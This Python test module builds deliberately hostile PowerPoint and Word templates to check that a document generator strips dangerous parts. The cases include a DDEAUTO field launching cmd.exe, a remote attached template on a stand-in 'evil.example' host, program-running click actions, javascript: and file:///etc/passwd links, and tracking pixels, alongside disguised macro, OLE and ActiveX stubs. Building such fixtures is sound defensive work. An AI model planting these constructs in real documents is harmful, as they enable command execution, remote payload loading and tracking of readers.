"""A gallery of hostile templates, built in code from the built-in deck template and python-docx's default.

Each case adds one thing a template must not pass on to our outputs (a macro
project under a harmless name, external links on the master, an attached
template, ActiveX, OLE, custom XML, fields that run commands...). ``combined``
applies every case of a kind to one package.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import PurePosixPath

from docx import Document
from lxml import etree
from PIL import Image
from pptx import Presentation
from pptx.opc.constants import CONTENT_TYPE as CT
from pptx.opc.constants import RELATIONSHIP_TYPE as RT

from generator.templates import BUILTIN_DECK_TEMPLATE

PACKAGE_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
CONTENT_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
P = "http://schemas.openxmlformats.org/presentationml/2006/main"
P14 = "http://schemas.microsoft.com/office/powerpoint/2010/main"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
VBA_PROJECT = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
VBA_PROJECT_TYPE = "application/vnd.ms-office.vbaProject"
WORD_VBA_DATA = "http://schemas.microsoft.com/office/2006/relationships/wordVbaData"
KEY_MAP = "http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations"
ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
MAIL_MERGE_SOURCE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/mailMergeSource"
ACTIVEX_TYPE = "application/vnd.ms-office.activeX+xml"
MASTER = "ppt/slideMasters/slideMaster1.xml"
MASTER_RELS = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
LAYOUT = "ppt/slideLayouts/slideLayout1.xml"
PRESENTATION = "ppt/presentation.xml"
DOCUMENT = "word/document.xml"
SETTINGS = "word/settings.xml"
HEADER = "word/header1.xml"
PAYLOAD_TEMPLATE = "http://evil.example/payload.dotm"
DC = "http://purl.org/dc/elements/1.1/"
WORD_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
PICTURE = "http://schemas.openxmlformats.org/drawingml/2006/picture"
EXTENDED = "http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"
# What check-template lists as dropped from the built-in deck template: nothing but these.
BUILT_IN_DECK_DROPS = ["docProps/app.xml (the template's application properties; the build sets its own)",
                       "docProps/core.xml (the template's document properties; the build sets its own)",
                       "docProps/thumbnail.jpeg (a thumbnail picture)",
                       "ppt/printerSettings/printerSettings1.bin (printer settings)"]


class Package:
    """The members of an office package, to be changed part by part and zipped again."""

    def __init__(self, data: bytes):
        with zipfile.ZipFile(io.BytesIO(data)) as package:
            self.members = {name: package.read(name) for name in package.namelist()}

    def xml(self, name: str) -> etree._Element:
        return etree.fromstring(self.members[name])

    def put_xml(self, name: str, root: etree._Element) -> None:
        self.members[name] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)

    def add_part(self, name: str, data: bytes, content_type: str) -> None:
        self.members[name] = data
        types = self.xml("[Content_Types].xml")
        etree.SubElement(types, f"{{{CONTENT_TYPES}}}Override", PartName=f"/{name}", ContentType=content_type)
        self.put_xml("[Content_Types].xml", types)

    def relate(self, source: str, rel_type: str, target: str, external: bool = False) -> str:
        """Add a relationship from ``source`` (a part name, or "" for the package); return its id."""
        path = PurePosixPath(source)
        rels_name = str(path.parent / "_rels" / f"{path.name}.rels") if source else "_rels/.rels"
        if rels_name in self.members:
            rels = self.xml(rels_name)
        else:
            rels = etree.Element(f"{{{PACKAGE_RELATIONSHIPS}}}Relationships", nsmap={None: PACKAGE_RELATIONSHIPS})
        rel_id = f"rIdHostile{len(rels) + 1}"
        relationship = etree.SubElement(rels, f"{{{PACKAGE_RELATIONSHIPS}}}Relationship", Id=rel_id, Type=rel_type,
                                        Target=target)
        if external:
            relationship.set("TargetMode", "External")
        self.put_xml(rels_name, rels)
        return rel_id

    def save(self) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
            for name, data in self.members.items():
                package.writestr(name, data)
        return buffer.getvalue()


def powerpoint_base() -> bytes:
    return BUILTIN_DECK_TEMPLATE.read_bytes()


def word_base() -> bytes:
    """python-docx's default document, with a header (where a comms team's letterhead goes)."""
    doc = Document()
    doc.sections[0].header.paragraphs[0].text = "Tees Safeguarding Partnerships"
    buffer = io.BytesIO()
    doc.save(buffer)
    return buffer.getvalue()


def png_bytes(metadata: bool = False) -> bytes:
    """A small PNG picture; with ``metadata``, a text chunk holding "secret-metadata"."""
    from PIL import PngImagePlugin

    buffer = io.BytesIO()
    text = PngImagePlugin.PngInfo()
    if metadata:
        text.add_text("Comment", "secret-metadata")
    Image.new("RGB", (4, 4), "navy").save(buffer, "PNG", pnginfo=text)
    return buffer.getvalue()


# --- Damaged packages (for refusals) ---------------------------------------------------------------------------

def changed(change: Callable[[Package], None], base: Callable[[], bytes] = powerpoint_base) -> bytes:
    package = Package(base())
    change(package)
    return package.save()


def without_relationship(rels_part: str, type_ending: str) -> Callable[[Package], None]:
    def change(package: Package) -> None:
        root = package.xml(rels_part)
        for relationship in list(root):
            if relationship.get("Type").endswith(type_ending):
                root.remove(relationship)
        package.put_xml(rels_part, root)
    return change


def with_part(name: str, data: bytes) -> Callable[[Package], None]:
    def change(package: Package) -> None:
        package.members[name] = data
    return change


def without_part(name: str) -> Callable[[Package], None]:
    def change(package: Package) -> None:
        del package.members[name]
    return change


# --- PowerPoint -------------------------------------------------------------------------------------------------

def _first_shape_properties(root: etree._Element) -> etree._Element:
    return next(root.iter(f"{{{P}}}cNvPr"))


def _click(package: Package, part: str, target: str, action: str | None = None) -> None:
    """Give the first shape of ``part`` a click that opens the external ``target`` (or runs ``action``)."""
    rel_id = package.relate(part, RT.HYPERLINK, target, external=True) if target else ""
    root = package.xml(part)
    click = etree.SubElement(_first_shape_properties(root), f"{{{A}}}hlinkClick", nsmap={"r": R})
    click.set(f"{{{R}}}id", rel_id)
    if action:
        click.set("action", action)
    package.put_xml(part, root)


def vba_project_under_a_harmless_name(package: Package) -> None:
    package.add_part("ppt/evil.bin", b"\xd0\xcf\x11\xe0 macro project", VBA_PROJECT_TYPE)
    package.relate(PRESENTATION, VBA_PROJECT, "evil.bin")


def unreferenced_macro_project(package: Package) -> None:
    package.members["ppt/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro project"


def external_links_on_the_master(package: Package) -> None:
    _click(package, MASTER, "javascript:alert(document.cookie)")
    _click(package, LAYOUT, "file:///C:/Windows/System32/calc.exe")


def click_actions_that_run_things(package: Package) -> None:
    _click(package, "ppt/slideLayouts/slideLayout2.xml", "file:///C:/Windows/System32/cmd.exe", "ppaction://program")
    _click(package, "ppt/slideLayouts/slideLayout3.xml", "", "ppaction://macro?name=AutoOpen")


def external_picture_on_a_layout(package: Package) -> None:
    package.relate(LAYOUT, RT.IMAGE, "http://tracker.example/pixel.png", external=True)


def activex_control_on_the_master(package: Package) -> None:
    package.add_part("ppt/activeX/activeX1.xml", b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft'
                     b'.com/office/2006/activeX" ax:classid="{8BD21D10-EC42-11CE-9E0D-00AA006002F3}"/>', ACTIVEX_TYPE)
    rel_id = package.relate(MASTER, RT.CONTROL, "../activeX/activeX1.xml")
    root = package.xml(MASTER)
    common = root.find(f"{{{P}}}cSld")
    controls = etree.Element(f"{{{P}}}controls")
    common.insert(common.index(common.find(f"{{{P}}}spTree")) + 1, controls)
    control = etree.SubElement(controls, f"{{{P}}}control", name="Evil", spid="_x0000_s9999", nsmap={"r": R})
    control.set(f"{{{R}}}id", rel_id)
    package.put_xml(MASTER, root)


def ole_object_on_a_layout(package: Package) -> None:
    package.add_part("ppt/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0 ole", CT.OFC_OLE_OBJECT)
    rel_id = package.relate(LAYOUT, RT.OLE_OBJECT, "../embeddings/oleObject1.bin")
    root = package.xml(LAYOUT)
    tree = root.find(f".//{{{P}}}spTree")
    frame = etree.fromstring(
        f'<p:graphicFrame xmlns:p="{P}" xmlns:a="{A}" xmlns:r="{R}"><p:nvGraphicFramePr>'
        '<p:cNvPr id="99" name="Object"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr>'
        '<p:xfrm><a:off x="0" y="0"/><a:ext cx="100" cy="100"/></p:xfrm><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
        f'<p:oleObj progId="Package" r:id="{rel_id}"><p:embed/></p:oleObj></a:graphicData></a:graphic>'
        '</p:graphicFrame>')
    tree.append(frame)
    package.put_xml(LAYOUT, root)


def custom_xml_and_comment_authors(package: Package) -> None:
    package.add_part("customXml/item1.xml", b"<data>secret</data>", "application/xml")
    package.relate(PRESENTATION, RT.CUSTOM_XML, "../customXml/item1.xml")
    package.add_part("ppt/commentAuthors.xml", f'<p:cmAuthorLst xmlns:p="{P}"/>'.encode(), CT.PML_COMMENT_AUTHORS)
    package.relate(PRESENTATION, RT.COMMENT_AUTHORS, "commentAuthors.xml")


def picture_on(package: Package, part: str, target: str, shape_id: int = 98) -> None:
    """Show the picture ``target`` (relative to ``part``) on a slide master or layout."""
    rel_id = package.relate(part, RT.IMAGE, target)
    root = package.xml(part)
    picture = etree.fromstring(
        f'<p:pic xmlns:p="{P}" xmlns:a="{A}" xmlns:r="{R}"><p:nvPicPr><p:cNvPr id="{shape_id}" name="Logo"/>'
        f'<p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:embed="{rel_id}"/><a:stretch><a:fillRect/>'
        '</a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="100" cy="100"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>')
    root.find(f".//{{{P}}}spTree").append(picture)
    package.put_xml(part, root)


def broken_optional_link(package: Package) -> None:
    """A picture on the master whose relationship names a part the package lacks."""
    picture_on(package, MASTER, "../media/missing.png")


# Files that are not pictures, each under a picture's name and content type: (name, bytes, content type).
VBA_BYTES = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 24 + b'Attribute VB_Name = "ThisDocument"'
PRETENDING_PICTURES = (
    ("image9.png", VBA_BYTES, CT.PNG),
    ("program.jpeg", b"MZ\x90\x00\x03" + b"\x00" * 59 + b"This program cannot be run in DOS mode.", CT.JPEG),
    ("page.png", b"<html><script>alert(1)</script></html>", CT.PNG),
    ("workbook.png", b"PK\x03\x04" + b"\x00" * 26 + b"xl/evil-workbook.xml", CT.PNG),
    ("junk.emf", b"junk emf payload " * 4, CT.X_EMF),
    ("junk.wmf", b"junk wmf payload " * 4, CT.X_WMF),
    ("png-named.gif", png_bytes(), CT.GIF),
)


def files_pretending_to_be_pictures_on_a_layout(package: Package) -> None:
    for offset, (name, data, content_type) in enumerate(PRETENDING_PICTURES):
        package.add_part(f"ppt/media/{name}", data, content_type)
        picture_on(package, LAYOUT, f"../media/{name}", shape_id=90 + offset)


def picture_with_metadata_on_the_master(package: Package) -> None:
    """A real picture carrying text in its metadata, and bytes after its end: only its pixels are kept."""
    package.add_part("ppt/media/photo.png", png_bytes(metadata=True) + b"appended secret payload", CT.PNG)
    picture_on(package, MASTER, "../media/photo.png")


def vba_bytes_as_an_embedded_font(package: Package) -> None:
    package.add_part("ppt/fonts/font1.fntdata", VBA_BYTES, CT.X_FONTDATA)
    rel_id = package.relate(PRESENTATION, RT.FONT, "fonts/font1.fntdata")
    root = package.xml(PRESENTATION)
    fonts = etree.fromstring(f'<p:embeddedFontLst xmlns:p="{P}" xmlns:r="{R}"><p:embeddedFont>'
                             f'<p:font typeface="Evil Sans"/><p:regular r:id="{rel_id}"/></p:embeddedFont>'
                             '</p:embeddedFontLst>')
    notes_size = root.find(f"{{{P}}}notesSz")
    root.insert(root.index(notes_size) + 1, fonts)
    package.put_xml(PRESENTATION, root)


def properties_of_its_own(package: Package) -> None:
    """A description and a company in the template's document and application properties."""
    core = package.xml("docProps/core.xml")
    for old in core.findall(f"{{{DC}}}description"):
        core.remove(old)
    etree.SubElement(core, f"{{{DC}}}description").text = "secret-description of the template"
    package.put_xml("docProps/core.xml", core)
    if "docProps/app.xml" in package.members:
        app = package.xml("docProps/app.xml")
        etree.SubElement(app, f"{{{EXTENDED}}}Company").text = "secret-company"
        package.put_xml("docProps/app.xml", app)


def sample_slide_with_links(package: Package) -> None:
    prs = Presentation(io.BytesIO(package.save()))
    slide = prs.slides.add_slide(prs.slide_layouts[1])
    run = slide.shapes.title.text_frame.paragraphs[0].add_run()
    run.text = "Click me"
    run.hyperlink.address = "file:///etc/passwd"
    slide.shapes.add_picture(io.BytesIO(png_bytes()), 0, 0)
    buffer = io.BytesIO()
    prs.save(buffer)
    package.members = Package(buffer.getvalue()).members
    root = package.xml(PRESENTATION)
    slide_id = next(root.iter(f"{{{P}}}sldId")).get("id")
    sections = etree.fromstring(
        f'<p:ext xmlns:p="{P}" uri="{{521415D9-36F7-43E2-AB2F-B90AF26B5E84}}"><p14:sectionLst xmlns:p14="{P14}">'
        f'<p14:section name="Samples" id="{{5E2C4A48-0C45-4D5C-9F5B-0E3F8A1D2C11}}"><p14:sldIdLst>'
        f'<p14:sldId id="{slide_id}"/></p14:sldIdLst></p14:section></p14:sectionLst></p:ext>')
    extensions = root.find(f"{{{P}}}extLst")
    if extensions is None:
        extensions = etree.SubElement(root, f"{{{P}}}extLst")
    extensions.append(sections)
    package.put_xml(PRESENTATION, root)


# Cases that re-save the package through python-pptx or python-docx come first: a re-save loses unreferenced parts.
POWERPOINT_CASES: dict[str, Callable[[Package], None]] = {
    "sample slide with links": sample_slide_with_links,
    "vba project under a harmless name": vba_project_under_a_harmless_name,
    "unreferenced macro project": unreferenced_macro_project,
    "external links on the master": external_links_on_the_master,
    "click actions that run things": click_actions_that_run_things,
    "external picture on a layout": external_picture_on_a_layout,
    "activex control on the master": activex_control_on_the_master,
    "ole object on a layout": ole_object_on_a_layout,
    "custom xml and comment authors": custom_xml_and_comment_authors,
    "broken optional link": broken_optional_link,
    "files pretending to be pictures on a layout": files_pretending_to_be_pictures_on_a_layout,
    "picture with metadata on the master": picture_with_metadata_on_the_master,
    "vba bytes as an embedded font": vba_bytes_as_an_embedded_font,
    "properties of its own": properties_of_its_own,
}


# --- Word -------------------------------------------------------------------------------------------------------

def _header_paragraph(root: etree._Element) -> etree._Element:
    return next(root.iter(f"{{{W}}}p"))


def word_vba_project_under_a_harmless_name(package: Package) -> None:
    package.add_part("word/evil.bin", b"\xd0\xcf\x11\xe0 macro project", VBA_PROJECT_TYPE)
    package.relate(DOCUMENT, VBA_PROJECT, "evil.bin")
    package.add_part("word/vbaData.xml", b'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/'
                     b'2006/wordml"/>', "application/vnd.ms-word.vbaData+xml")
    package.relate("word/evil.bin", WORD_VBA_DATA, "vbaData.xml")
    package.add_part("word/customizations.xml", b'<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/'
                     b'2006/wordml"/>', "application/vnd.ms-word.keyMapCustomizations+xml")
    package.relate(DOCUMENT, KEY_MAP, "customizations.xml")


def remote_attached_template(package: Package) -> None:
    rel_id = package.relate(SETTINGS, ATTACHED_TEMPLATE, PAYLOAD_TEMPLATE, external=True)
    root = package.xml(SETTINGS)
    attached = etree.Element(f"{{{W}}}attachedTemplate", nsmap={"r": R})
    attached.set(f"{{{R}}}id", rel_id)
    root.insert(1, attached)
    package.put_xml(SETTINGS, root)


def mail_merge_from_an_outside_source(package: Package) -> None:
    rel_id = package.relate(SETTINGS, MAIL_MERGE_SOURCE, "file:///C:/Users/Public/data.xlsx", external=True)
    root = package.xml(SETTINGS)
    merge = etree.fromstring(f'<w:mailMerge xmlns:w="{W}" xmlns:r="{R}"><w:mainDocumentType w:val="formLetters"/>'
                             '<w:dataType w:val="native"/><w:query w:val="SELECT * FROM `Sheet1$`"/>'
                             f'<w:dataSource r:id="{rel_id}"/></w:mailMerge>')
    root.insert(2, merge)
    package.put_xml(SETTINGS, root)


def external_links_in_the_header(package: Package) -> None:
    root = package.xml(HEADER)
    paragraph = _header_paragraph(root)
    for target in ("javascript:alert(1)", "file:///C:/secret.docx"):
        rel_id = package.relate(HEADER, RT.HYPERLINK, target, external=True)
        link = etree.SubElement(paragraph, f"{{{W}}}hyperlink", nsmap={"r": R})
        link.set(f"{{{R}}}id", rel_id)
        text = etree.SubElement(etree.SubElement(link, f"{{{W}}}r"), f"{{{W}}}t")
        text.text = " Visit us"
    package.put_xml(HEADER, root)


def fields_that_run_commands_in_the_header(package: Package) -> None:
    root = package.xml(HEADER)
    paragraph = _header_paragraph(root)
    simple = etree.SubElement(paragraph, f"{{{W}}}fldSimple")
    simple.set(f"{{{W}}}instr", 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')
    etree.SubElement(etree.SubElement(simple, f"{{{W}}}r"), f"{{{W}}}t").text = "!"
    for kind, instruction in (("begin", None), (None, ' INCLUDEPICTURE "http://tracker.example/p'),
                              (None, 'ixel.png" \\d '), ("end", None)):
        run = etree.SubElement(paragraph, f"{{{W}}}r")
        if kind:
            etree.SubElement(run, f"{{{W}}}fldChar").set(f"{{{W}}}fldCharType", kind)
        else:
            etree.SubElement(run, f"{{{W}}}instrText").text = instruction
    package.put_xml(HEADER, root)


def hyperlink_fields_in_the_header(package: Package) -> None:
    """HYPERLINK fields to outside targets, in the complex form (its instruction split across runs) and the simple."""
    root = package.xml(HEADER)
    paragraph = _header_paragraph(root)
    for pieces in ((' HYPERLINK "file:///C:/', 'Users/secret.docx" '), (" HYPERLINK \"javascript:alert(2)\" ",),
                   (' HYPERLINK "http://evil.example/field" \\o "tip" ',)):
        for kind, instruction in (("begin", None), *((None, piece) for piece in pieces), ("separate", None)):
            run = etree.SubElement(paragraph, f"{{{W}}}r")
            if kind:
                etree.SubElement(run, f"{{{W}}}fldChar").set(f"{{{W}}}fldCharType", kind)
            else:
                etree.SubElement(run, f"{{{W}}}instrText").text = instruction
        etree.SubElement(etree.SubElement(paragraph, f"{{{W}}}r"), f"{{{W}}}t").text = " Open"
        etree.SubElement(etree.SubElement(paragraph, f"{{{W}}}r"), f"{{{W}}}fldChar").set(f"{{{W}}}fldCharType",
                                                                                        "end")
    simple = etree.SubElement(paragraph, f"{{{W}}}fldSimple")
    simple.set(f"{{{W}}}instr", ' HYPERLINK "http://evil.example/simple" ')
    etree.SubElement(etree.SubElement(simple, f"{{{W}}}r"), f"{{{W}}}t").text = " Visit"
    package.put_xml(HEADER, root)


def document_variables_in_the_settings(package: Package) -> None:
    root = package.xml(SETTINGS)
    variables = etree.fromstring(f'<w:docVars xmlns:w="{W}"><w:docVar w:name="Secret" w:val="secret-docvar"/>'
                                 '</w:docVars>')
    later = root.find(f"{{{W}}}rsids")
    if later is None:
        root.append(variables)
    else:
        root.insert(root.index(later), variables)
    package.put_xml(SETTINGS, root)


def files_pretending_to_be_pictures_in_the_header(package: Package) -> None:
    """The header shows a real picture (added by python-docx) and, beside it, each file pretending to be one."""
    doc = Document(io.BytesIO(package.save()))
    doc.sections[0].header.paragraphs[0].add_run().add_picture(io.BytesIO(png_bytes()))
    buffer = io.BytesIO()
    doc.save(buffer)
    package.members = Package(buffer.getvalue()).members
    root = package.xml(HEADER)
    drawing = next(root.iter(f"{{{W}}}drawing"))
    run = drawing.getparent()
    drawing_ids = 900  # unlike python-docx's, which start at 1 in every part, as the briefing's own do
    for offset, (name, data, content_type) in enumerate(PRETENDING_PICTURES):
        package.add_part(f"word/media/{name}", data, content_type)
        rel_id = package.relate(HEADER, RT.IMAGE, f"media/{name}")
        copy = etree.fromstring(etree.tostring(run))
        next(copy.iter(f"{{{A}}}blip")).set(f"{{{R}}}embed", rel_id)
        for properties in copy.iter(f"{{{WORD_DRAWING}}}docPr", f"{{{PICTURE}}}cNvPr"):
            properties.set("id", str(drawing_ids + offset))
        run.addnext(copy)
    for properties in run.iter(f"{{{WORD_DRAWING}}}docPr", f"{{{PICTURE}}}cNvPr"):
        properties.set("id", str(drawing_ids - 1))
    package.put_xml(HEADER, root)


def ole_object_in_the_header(package: Package) -> None:
    package.add_part("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0 ole", CT.OFC_OLE_OBJECT)
    rel_id = package.relate(HEADER, RT.OLE_OBJECT, "embeddings/oleObject1.bin")
    root = package.xml(HEADER)
    run = etree.SubElement(_header_paragraph(root), f"{{{W}}}r")
    ole = etree.SubElement(etree.SubElement(run, f"{{{W}}}object"),
                           "{urn:schemas-microsoft-com:office:office}OLEObject", Type="Embed", ProgID="Package",
                           nsmap={"o": "urn:schemas-microsoft-com:office:office", "r": R})
    ole.set(f"{{{R}}}id", rel_id)
    package.put_xml(HEADER, root)


def glossary_and_comments(package: Package) -> None:
    package.add_part("word/glossary/document.xml", f'<w:glossaryDocument xmlns:w="{W}"/>'.encode(),
                     CT.WML_DOCUMENT_GLOSSARY)
    package.relate(DOCUMENT, RT.GLOSSARY_DOCUMENT, "glossary/document.xml")
    package.add_part("word/comments.xml", f'<w:comments xmlns:w="{W}"/>'.encode(), CT.WML_COMMENTS)
    package.relate(DOCUMENT, RT.COMMENTS, "comments.xml")


def body_content_with_a_picture_and_an_imported_file(package: Package) -> None:
    doc = Document(io.BytesIO(package.save()))
    doc.add_paragraph("Sample text the build removes.")
    doc.add_picture(io.BytesIO(png_bytes()))
    buffer = io.BytesIO()
    doc.save(buffer)
    package.members = Package(buffer.getvalue()).members
    package.add_part("word/afchunk.mht", b"MIME-Version: 1.0\r\n\r\n<script>evil()</script>", "message/rfc822")
    rel_id = package.relate(DOCUMENT, RT.A_F_CHUNK, "afchunk.mht")
    root = package.xml(DOCUMENT)
    body = root.find(f"{{{W}}}body")
    chunk = etree.Element(f"{{{W}}}altChunk", nsmap={"r": R})
    chunk.set(f"{{{R}}}id", rel_id)
    body.insert(0, chunk)
    package.put_xml(DOCUMENT, root)


WORD_CASES: dict[str, Callable[[Package], None]] = {
    "body content with a picture and an imported file": body_content_with_a_picture_and_an_imported_file,
    "files pretending to be pictures in the header": files_pretending_to_be_pictures_in_the_header,
    "vba project under a harmless name": word_vba_project_under_a_harmless_name,
    "remote attached template": remote_attached_template,
    "mail merge from an outside source": mail_merge_from_an_outside_source,
    "external links in the header": external_links_in_the_header,
    "fields that run commands in the header": fields_that_run_commands_in_the_header,
    "ole object in the header": ole_object_in_the_header,
    "glossary and comments": glossary_and_comments,
    "hyperlink fields in the header": hyperlink_fields_in_the_header,
    "document variables in the settings": document_variables_in_the_settings,
    "properties of its own": properties_of_its_own,
}

BASES = {"pptx": powerpoint_base, "docx": word_base}
CASES = {"pptx": POWERPOINT_CASES, "docx": WORD_CASES}


def hostile(kind: str, *names: str) -> bytes:
    """Return a template of ``kind`` ("pptx" or "docx") with the named cases applied (every case if none named)."""
    package = Package(BASES[kind]())
    for name in names or tuple(CASES[kind]):
        CASES[kind][name](package)
    return package.save()


def gallery() -> list[tuple[str, str]]:
    """Return every (kind, case name) of the gallery, plus each kind with every case combined ("all")."""
    return [(kind, name) for kind, cases in CASES.items() for name in (*cases, "all")]


def build(kind: str, name: str) -> bytes:
    """Return the gallery's template for (kind, case name)."""
    return hostile(kind) if name == "all" else hostile(kind, name)
